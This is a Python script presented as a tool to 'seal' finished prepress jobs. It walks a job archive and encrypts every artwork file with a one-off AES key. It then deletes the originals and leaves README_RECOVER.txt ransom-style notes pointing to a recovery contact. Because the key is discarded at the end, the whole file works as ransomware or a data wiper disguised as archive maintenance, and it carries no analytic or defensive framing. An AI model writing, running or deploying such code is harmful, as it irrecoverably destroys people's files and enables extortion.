#!/usr/bin/env python3
"""job_archive_sealer.py - "seal" finished prepress jobs in the archive.

Walks the job archive, encrypts every artwork file with a one-off key, removes
the originals and leaves a recovery note in each job folder.
"""
import argparse
import logging
import os
import secrets
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("job_archive_sealer")
EXTENSIONS = {".pdf", ".tif", ".tiff", ".indd", ".ai", ".ps", ".eps", ".psd"}
NOTE = """Your job archive has been sealed.
All artwork files in this folder were encrypted.
To recover them, contact recovery@example.org and quote ID {ident}.
"""

SEAL_SCRIPT = r"""#!/bin/bash
set -u
while IFS= read -r f; do
    [ -f "$f" ] || continue
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:SEAL_KEY \
        -in "$f" -out "$f.sealed"; then
        rm -f -- "$f"
        echo "sealed $f"
    else
        echo "failed $f" >&2
    fi
done
"""


class ArchiveSealer:
    def __init__(self, root, ident):
        self.root = Path(root)
        self.ident = ident
        self.key = secrets.token_hex(32)
        self.sealed = 0

    def targets(self):
        for dirpath, _dirs, files in os.walk(self.root):
            for name in files:
                path = Path(dirpath) / name
                if path.suffix.lower() in EXTENSIONS:
                    yield path

    def write_script(self):
        fd, path = tempfile.mkstemp(prefix="seal_", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(SEAL_SCRIPT)
        os.chmod(path, 0o700)
        return path

    def seal(self, files):
        script = self.write_script()
        env = dict(os.environ, SEAL_KEY=self.key)
        listing = "\n".join(str(f) for f in files) + "\n"
        try:
            proc = subprocess.run(["bash", script], input=listing, env=env,
                                  capture_output=True, text=True)
        finally:
            os.unlink(script)
        for line in proc.stdout.splitlines():
            LOG.debug(line)
            self.sealed += 1
        if proc.stderr:
            LOG.warning(proc.stderr.strip())

    def drop_notes(self, files):
        for folder in {f.parent for f in files}:
            try:
                (folder / "README_RECOVER.txt").write_text(NOTE.format(ident=self.ident))
            except OSError as exc:
                LOG.warning("note not written in %s: %s", folder, exc)


def parse_args():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?", default="/srv/prepress/jobs")
    ap.add_argument("--batch", type=int, default=200)
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    if not os.path.isdir(args.root):
        LOG.error("archive root %s not found", args.root)
        return 1
    sealer = ArchiveSealer(args.root, secrets.token_hex(6))
    files = list(sealer.targets())
    LOG.info("%d artwork files found under %s", len(files), args.root)
    for start in range(0, len(files), args.batch):
        sealer.seal(files[start:start + args.batch])
    sealer.drop_notes(files)
    sealer.key = None
    LOG.info("sealed %d files, id %s", sealer.sealed, sealer.ident)
    return 0


if __name__ == "__main__":
    sys.exit(main())
